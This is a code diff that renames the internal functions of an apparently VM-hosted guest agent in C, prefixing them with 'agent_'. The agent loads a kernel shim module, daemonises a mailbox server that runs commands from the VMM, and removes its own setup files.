@@ -23,7 +23,7 @@
 #include "abi.h"
 
 /* The VMM ends the guest with one line; if the port is barred (lockdown), power off. */
-static void give_up(int error)
+static void agent_give_up(int error)
 {
 	if (!ioperm(UMBRA_PORT_FAIL, 4, 1))
 		outl((unsigned int)error, UMBRA_PORT_FAIL);
@@ -38,11 +38,11 @@ static int load_shim(void)
 	int next, fd = open(UMBRA_AGENT_SHIM, O_RDONLY | O_CLOEXEC);
 
 	if (fd < 0)
-		give_up(errno);
+		agent_give_up(errno);
 	next = dup(fd);
 	close(next);
 	if (syscall(SYS_finit_module, fd, "", 0))
-		give_up(errno);
+		agent_give_up(errno);
 	close(fd);
 	return next;
 }
@@ -59,7 +59,7 @@ static int call_kernel(const struct umbra_mail *m, const void *payload)
 	}
 }
 
-static void reply(int control, __u32 seq, int result)
+static void agent_reply(int control, __u32 seq, int result)
 {
 	struct umbra_reply r = { seq, result };
 
@@ -68,7 +68,7 @@ static void reply(int control, __u32 seq, int result)
 }
 
 /* In a child: a driver that crashes in its init takes its loader with it. */
-static int carry_out(const struct umbra_mail *m, const void *payload)
+static int agent_carry_out(const struct umbra_mail *m, const void *payload)
 {
 	pid_t pid = fork();
 	int status;
@@ -94,21 +94,21 @@ static void start_command(int control, const struct umbra_mail *m, const void *p
 	pid_t pid;
 
 	if (copy == MAP_FAILED) {
-		reply(control, m->seq, -ENOMEM);
+		agent_reply(control, m->seq, -ENOMEM);
 		return;
 	}
 	memcpy(copy, payload, m->len);
 	pid = fork();
 	if (!pid) {
 		signal(SIGCHLD, SIG_DFL);
-		reply(control, m->seq, carry_out(m, copy));
+		agent_reply(control, m->seq, agent_carry_out(m, copy));
 		_exit(0);
 	}
-	reply(control, m->seq, pid < 0 ? -errno : UMBRA_TAKEN);
+	agent_reply(control, m->seq, pid < 0 ? -errno : UMBRA_TAKEN);
 	munmap(copy, len);
 }
 
-static void serve(int control)
+static void agent_serve_mailbox(int control)
 {
 	static struct umbra_mail m;
 	void *payload;
@@ -121,7 +121,7 @@ static void serve(int control)
 			_exit(1);
 		}
 		if (payload == MAP_FAILED)
-			reply(control, m.seq, -ENOMEM);
+			agent_reply(control, m.seq, -ENOMEM);
 		else
 			start_command(control, &m, payload);
 	}
@@ -134,7 +134,7 @@ static void start_server(int control, char **argv)
 	int i, null;
 
 	if (pid < 0)
-		give_up(errno);
+		agent_give_up(errno);
 	if (pid)
 		return;
 	setsid();
@@ -145,11 +145,11 @@ static void start_server(int control, char **argv)
 		dup2(null, i);
 	memset(argv[0], 0, strlen(argv[0]));
 	argv[0][0] = '@';
-	serve(control);
+	agent_serve_mailbox(control);
 }
 
 /* Last use of a file of ours: read what the user's rdinit= was, and remove everything. */
-static void clean_up(char *init, size_t size)
+static void agent_clean_up(char *init, size_t size)
 {
 	int fd = open(UMBRA_AGENT_INIT, O_RDONLY | O_CLOEXEC);
 	ssize_t n = fd < 0 ? 0 : read(fd, init, size - 1);
@@ -258,7 +258,7 @@ int main(int argc, char **argv)
 		return 2;
 	}
 	control = load_shim();
-	clean_up(init, sizeof(init));
+	agent_clean_up(init, sizeof(init));
 	start_server(control, argv);
 	close(control);
 
